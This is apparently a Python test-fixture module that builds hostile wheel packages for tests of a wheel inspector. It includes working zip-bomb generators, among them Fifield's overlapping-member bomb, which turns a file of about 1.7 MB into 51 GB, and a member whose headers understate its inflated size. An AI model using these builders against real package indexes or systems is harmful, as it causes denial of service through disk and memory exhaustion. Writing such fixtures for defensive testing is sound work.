"""Hostile wheels built byte by byte, for tests that must not store them.

Each builder writes a file that is a wheel by name and layout (a package,
a .dist-info with METADATA, WHEEL and RECORD) plus the hostile part, whose
members are named like shared objects, since those are what `kwheel inspect`
extracts:

* `overlapping_bomb`: David Fifield's "A better zip bomb" (2019), the quoted
  overlap: every bomb member's deflate stream begins with a stored block
  that quotes the next member's local header and then runs on into that
  member's data, so all of them end in one shared kernel. CRCs and sizes are
  true (computed with crc32_combine, nothing is inflated here), so a reader
  that only checks consistency inflates the kernel once per member.
* `full_overlap_bomb`: many central directory entries pointing at one
  local header (Fifield's first, simpler construction).
* `high_ratio_wheel`: one honest member that inflates far beyond a ratio
  cap (zeros).
* `lying_size_wheel`: a member whose headers declare a small size but
  whose deflate stream inflates to much more.

The kernel is a fixed-Huffman deflate stream of zeros written directly
(one literal, then (length 258, distance 1) codes), so a kernel of any size
costs no compression time. Standard library only.
"""

from __future__ import annotations

import base64
import hashlib
import struct
import zlib
from pathlib import Path

# --------------------------------------------------------------------------- deflate and crc


class _Bits:
    """LSB-first bit packing, as deflate writes it."""

    def __init__(self) -> None:
        self.acc, self.n, self.out = 0, 0, bytearray()

    def bits(self, value: int, n: int) -> None:
        self.acc |= value << self.n
        self.n += n
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def huffman(self, code: int, n: int) -> None:  # Huffman codes go most significant bit first
        self.bits(int(f"{code:0{n}b}"[::-1], 2), n)

    def flush(self) -> bytes:
        if self.n:
            self.out.append(self.acc & 0xFF)
            self.acc, self.n = 0, 0
        return bytes(self.out)


def _match(b: _Bits) -> None:
    b.huffman(0b11000101, 8)  # length 258 (symbol 285)
    b.huffman(0, 5)  # distance 1


def zeros_kernel(units: int) -> tuple[bytes, int]:
    """A final fixed-Huffman deflate block inflating to 1 + 258 * units zero bytes, and that size."""
    assert units >= 1
    head = _Bits()
    head.bits(1, 1)  # BFINAL
    head.bits(1, 2)  # BTYPE 01: fixed Huffman codes
    head.huffman(0x30, 8)  # literal 0
    _match(head)  # 3 + 8 + 13 bits: byte aligned
    assert head.n == 0
    group = _Bits()
    for _ in range(8):  # 8 * 13 bits = 13 bytes: repeats byte for byte
        _match(group)
    assert group.n == 0
    groups, rest = divmod(units - 1, 8)
    tail = _Bits()
    for _ in range(rest):
        _match(tail)
    tail.huffman(0, 7)  # end of block
    data = bytes(head.out) + bytes(group.out) * groups + tail.flush()
    return data, 1 + 258 * units


def _gf2_times(mat: list[int], vec: int) -> int:
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def _zero_operators() -> list[list[int]]:
    """ops[j] advances a CRC-32 register over 2**j zero bytes (zlib's crc32_combine)."""
    op = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    for _ in range(3):
        op = [_gf2_times(op, op[n]) for n in range(32)]
    ops = [op]
    for _ in range(63):
        op = [_gf2_times(op, op[n]) for n in range(32)]
        ops.append(op)
    return ops


_OPS: list[list[int]] | None = None


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """crc32(a + b) from crc32(a), crc32(b) and len(b)."""
    global _OPS
    if _OPS is None:
        _OPS = _zero_operators()
    j = 0
    while len2:
        if len2 & 1:
            crc1 = _gf2_times(_OPS[j], crc1)
        len2 >>= 1
        j += 1
    return crc1 ^ crc2


def crc32_zeros(n: int) -> int:
    """crc32(b"\\0" * n) without the bytes: doubling with crc32_combine."""
    crc, have, block, block_crc = 0, 0, 1, zlib.crc32(b"\0")
    while n:
        if n & 1:
            crc = crc32_combine(crc, block_crc, block) if have else block_crc
            have += block
        block_crc = crc32_combine(block_crc, block_crc, block)
        block *= 2
        n >>= 1
    return crc


# --------------------------------------------------------------------------- zip records

DOS_TIME, DOS_DATE = 0, (1980 - 1980) << 9 | 1 << 5 | 1  # 1980-01-01 00:00


def local_header(name: bytes, crc: int, csize: int, usize: int, method: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, DOS_TIME, DOS_DATE, crc, csize, usize, len(name), 0) + name


def central_entry(name: bytes, crc: int, csize: int, usize: int, method: int, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, DOS_TIME, DOS_DATE, crc, csize, usize,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def end_record(entries: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, cd_size, cd_offset, 0)


def _b64(digest: bytes) -> str:
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


class ZipBuilder:
    """Members appended in order; `finish` writes the central directory. Central entries may be
    added for any local header (that is how the bombs are made)."""

    def __init__(self) -> None:
        self.data = bytearray()
        self.central: list[bytes] = []

    def raw(self, b: bytes) -> int:
        at = len(self.data)
        self.data += b
        return at

    def member(self, name: str, content: bytes, *, deflate: bool = True) -> None:
        packed = zlib.compress(content, 9)[2:-4] if deflate else content
        method = 8 if deflate else 0
        crc = zlib.crc32(content)
        at = self.raw(local_header(name.encode(), crc, len(packed), len(content), method))
        self.raw(packed)
        self.central.append(central_entry(name.encode(), crc, len(packed), len(content), method, at))

    def finish(self, path: Path) -> Path:
        cd = b"".join(self.central)
        at = len(self.data)
        path.write_bytes(bytes(self.data) + cd + end_record(len(self.central), len(cd), at))
        return path


def _wheel_start(name: str, version: str, bomb_rows: list[str]) -> tuple[ZipBuilder, str, list[str]]:
    """The ordinary part of a wheel: package and .dist-info files, their RECORD rows."""
    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": b"X = 1\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: zipbomb.py\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    z = ZipBuilder()
    rows = []
    for n, b in files.items():
        z.member(n, b)
        rows.append(f"{n},sha256={_b64(hashlib.sha256(b).digest())},{len(b)}")
    return z, dist, rows + bomb_rows


def _record(z: ZipBuilder, dist: str, rows: list[str]) -> None:
    z.member(f"{dist}/RECORD", ("\n".join(rows + [f"{dist}/RECORD,,"]) + "\n").encode())


def wheel_path(d: Path, name: str, version: str = "0.1.0") -> Path:
    d.mkdir(parents=True, exist_ok=True)
    return d / f"{name}-{version}-py3-none-any.whl"


# --------------------------------------------------------------------------- the bombs


def overlapping_bomb(d: Path, *, members: int = 200, kernel_units: int = 1_000_000, name: str = "bomb") -> tuple[Path, int]:
    """Fifield's quoted-overlap bomb as a wheel. Returns (path, bytes it inflates to in all).

    With the defaults: a ~1.7 MB file whose 200 members inflate 258 MB each, 51 GB in all."""
    kernel, kernel_size = zeros_kernel(kernel_units)
    names = [f"{name}/_d{i:04d}.abi3.so".encode() for i in range(members)]
    # From the last member back: member i's data quotes member i+1's local
    # header in a stored block, then is member i+1's data.
    crc, csize, usize = crc32_zeros(kernel_size), len(kernel), kernel_size
    headers: list[bytes] = [b""] * members
    sizes: list[tuple[int, int, int]] = [(0, 0, 0)] * members
    for i in reversed(range(members)):
        if i < members - 1:
            quoted = headers[i + 1]
            crc = crc32_combine(zlib.crc32(quoted), crc, usize)
            csize += 5 + len(quoted)
            usize += len(quoted)
        headers[i] = local_header(names[i], crc, csize, usize, 8)
        sizes[i] = (crc, csize, usize)
    rows = [f"{n.decode()},sha256={_b64(b'0' * 32)},{s[2]}" for n, s in zip(names, sizes)]  # sha256 of 51 GB: not computed
    z, dist, rows = _wheel_start(name, "0.1.0", rows)
    offsets = []
    for i in range(members):
        offsets.append(z.raw(headers[i]))
        if i < members - 1:
            q = len(headers[i + 1])
            z.raw(struct.pack("<BHH", 0, q, q ^ 0xFFFF))  # stored block, not final: quotes the next header
    z.raw(kernel)
    for i in range(members):
        crc, csize, usize = sizes[i]
        z.central.append(central_entry(names[i], crc, csize, usize, 8, offsets[i]))
    _record(z, dist, rows)
    return z.finish(wheel_path(d, name)), sum(s[2] for s in sizes)


def full_overlap_bomb(d: Path, *, members: int = 200, kernel_units: int = 1_000_000, name: str = "bomb",
                      same_name: bool = True) -> tuple[Path, int]:
    """Many central entries, one local header and one kernel. Returns (path, bytes it inflates to).

    With same_name the central entries all carry the local header's name, so they agree with it."""
    kernel, kernel_size = zeros_kernel(kernel_units)
    crc = crc32_zeros(kernel_size)
    member = f"{name}/_data.abi3.so".encode()
    rows = [f"{member.decode()},sha256={_b64(b'0' * 32)},{kernel_size}"]
    z, dist, rows = _wheel_start(name, "0.1.0", rows)
    at = z.raw(local_header(member, crc, len(kernel), kernel_size, 8))
    z.raw(kernel)
    for i in range(members):
        entry_name = member if same_name or i == 0 else f"{name}/_d{i:04d}.abi3.so".encode()
        z.central.append(central_entry(entry_name, crc, len(kernel), kernel_size, 8, at))
    _record(z, dist, rows)
    return z.finish(wheel_path(d, name)), members * kernel_size


def high_ratio_wheel(d: Path, *, inflated: int = 200 * 10**6, name: str = "bomb") -> Path:
    """One true member: `inflated` zeros, deflated about 160:1 (fixed codes). RECORD is true."""
    kernel, size = zeros_kernel(max(1, (inflated - 1) // 258))
    crc = crc32_zeros(size)
    digest = hashlib.sha256()
    chunk = b"\0" * (1 << 20)
    left = size
    while left:
        n = min(left, len(chunk))
        digest.update(chunk[:n])
        left -= n
    member = f"{name}/_zeros.abi3.so"
    z, dist, rows = _wheel_start(name, "0.1.0", [f"{member},sha256={_b64(digest.digest())},{size}"])
    at = z.raw(local_header(member.encode(), crc, len(kernel), size, 8))
    z.raw(kernel)
    z.central.append(central_entry(member.encode(), crc, len(kernel), size, 8, at))
    _record(z, dist, rows)
    return z.finish(wheel_path(d, name))


def lying_size_wheel(d: Path, *, declared: int = 1000, inflates: int = 50 * 10**6, name: str = "bomb",
                     member: str | None = None) -> Path:
    """A member declared `declared` bytes (headers and RECORD agree) whose stream inflates `inflates` zeros."""
    kernel, size = zeros_kernel(max(1, (inflates - 1) // 258))
    member = member or f"{name}/liar.bin"
    claimed = b"\0" * declared
    crc = zlib.crc32(claimed)
    z, dist, rows = _wheel_start(name, "0.1.0", [f"{member},sha256={_b64(hashlib.sha256(claimed).digest())},{declared}"])
    at = z.raw(local_header(member.encode(), crc, len(kernel), declared, 8))
    z.raw(kernel)
    z.central.append(central_entry(member.encode(), crc, len(kernel), declared, 8, at))
    _record(z, dist, rows)
    return z.finish(wheel_path(d, name))


def plain_wheel(d: Path, *, name: str = "demo", version: str = "0.1.0", metadata_version: str | None = None,
                files: dict[str, bytes] | None = None) -> Path:
    """An ordinary, consistent wheel (true RECORD); METADATA may claim another version."""
    files = files or {f"{name}/__init__.py": b"X = 1\n"}
    dist = f"{name}-{version}.dist-info"
    all_files = dict(files)
    all_files[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {metadata_version or version}\n".encode()
    all_files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: zipbomb.py\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    z = ZipBuilder()
    rows = []
    for n, b in all_files.items():
        z.member(n, b)
        rows.append(f"{n},sha256={_b64(hashlib.sha256(b).digest())},{len(b)}")
    _record(z, dist, rows)
    return z.finish(wheel_path(d, name, version))
